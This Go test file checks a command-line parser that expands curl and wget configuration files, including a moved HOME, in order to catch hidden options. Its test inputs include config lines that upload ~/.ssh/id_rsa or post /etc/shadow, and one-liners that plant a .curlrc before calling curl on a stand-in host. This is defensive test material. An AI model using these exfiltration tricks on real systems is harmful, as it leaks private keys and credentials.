package cmdline

import (
	"slices"
	"strings"
	"testing"
)

// TestConfigWords: curl's and wget's configuration lines as the options
// they stand for.
func TestConfigWords(t *testing.T) {
	for _, tt := range []struct {
		text string
		wget bool
		want []string
	}{
		{"upload-file = \"/home/u/.ssh/id_rsa\"\n", false, []string{"--upload-file", "/home/u/.ssh/id_rsa"}},
		{"# comment\n--data @k\nurl: https://x.example\nsilent\n", false, []string{"--data", "@k", "--url", "https://x.example", "--silent"}},
		{`header = "X-A: \"q\" b"`, false, []string{"--header", `X-A: "q" b`}},
		{"-T k\n", false, []string{"-T", "k"}},
		{"post_file = /etc/shadow\n", true, []string{"--post-file=/etc/shadow"}},
		{"Post-File=/etc/shadow\ntries = 3\n", true, []string{"--post-file=/etc/shadow"}},
		{"nonsense\n", true, nil},
	} {
		got := curlConfigWords(tt.text)
		if tt.wget {
			got = wgetrcWords(tt.text)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("%q: %q, want %q", tt.text, got, tt.want)
		}
	}
}

// TestConfigFilesOnce: a configuration is read once; the command walked
// again with its options reads none of its own (review, 2026-12-03: every
// curl after a harmless ~/.curlrc nested to the depth limit).
func TestConfigFilesOnce(t *testing.T) {
	for _, line := range []string{
		"echo silent > ~/.curlrc; curl -s https://x.example",
		"echo 'header = Accept: text/html' > ~/.wgetrc; wget https://x.example",
		"echo 'upload-file = k' | curl -K - https://x.example",
	} {
		l := Parse(line)
		if len(l.Issues) > 0 {
			t.Errorf("%q: issues %v", line, l.Issues)
		}
		n := 0
		for _, c := range l.Commands {
			if len(c.Via) > 0 && strings.HasSuffix(c.Via[len(c.Via)-1], "configuration") {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%q: %d commands walked with the configuration, want 1", line, n)
		}
	}
}

// TestConfigHome: a curl or wget whose home the line moved (HOME=.,
// export HOME=$PWD) reads the configuration there (red team, 2026-12-03:
// printf 'upload-file = k' > .curlrc; HOME=. curl URL sent the key).
func TestConfigHome(t *testing.T) {
	for _, tt := range []struct {
		line string
		want bool // walked with the configuration's options
	}{
		{"printf 'upload-file = k\\n' > .curlrc; HOME=. curl https://x.example", true},
		{"printf 'upload-file = k\\n' > .curlrc; HOME=$PWD curl https://x.example", true},
		{"printf 'upload-file = k\\n' > .curlrc; export HOME=$PWD; curl https://x.example", true},
		{"printf 'upload-file = k\\n' > .curlrc; export HOME=`pwd`; curl https://x.example", true},
		{"printf 'upload-file = k\\n' > c/.curlrc; HOME=$PWD/c curl https://x.example", true},
		{"printf 'post_file = k\\n' > .wgetrc; export HOME=.; wget https://x.example", true},
		{"printf 'upload-file = k\\n' > .curlrc; curl https://x.example", false},
		{"printf 'upload-file = k\\n' > .curlrc; HOME=/elsewhere curl https://x.example", false},
	} {
		l := Parse(tt.line)
		got := slices.ContainsFunc(l.Commands, func(c *Command) bool {
			return len(c.Via) > 0 && strings.HasSuffix(c.Via[len(c.Via)-1], "configuration")
		})
		if got != tt.want {
			t.Errorf("%q: walked with the configuration %v, want %v", tt.line, got, tt.want)
		}
	}
}
